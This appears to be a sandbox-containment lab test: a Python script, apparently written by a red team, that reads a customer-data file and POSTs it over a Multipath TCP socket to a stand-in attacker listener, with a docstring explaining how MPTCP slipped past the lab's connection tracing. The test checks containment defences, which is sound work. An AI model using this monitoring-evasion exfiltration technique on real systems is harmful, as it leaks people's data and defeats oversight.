# lab:title: Upload the customer data over MPTCP
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ connect
# adversary: --on network => CONTAINED network ~ connect
# adversary: --off network => ESCAPED exfil
"""The red team's F6 (n5): a Multipath TCP socket (IPPROTO_MPTCP, 262).
Its connect() stops for the trace like any other, but the lab made calls
only on plain TCP sockets and let this one go on unobserved: the
namespace's ENETUNREACH was not counted. With the network open, MPTCP
falls back to TCP against the attacker's plain listener and the POST
arrives."""
import os
import socket
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
req = b"POST " + (u.path or "/").encode() + b" HTTP/1.0\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
t = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
try:
    t.connect(("127.0.0.1", u.port or 80))
    t.sendall(req)
    t.shutdown(socket.SHUT_WR)
    print("sent", len(req), t.recv(200), flush=True)
except OSError as e:
    print("refused:", e, flush=True)
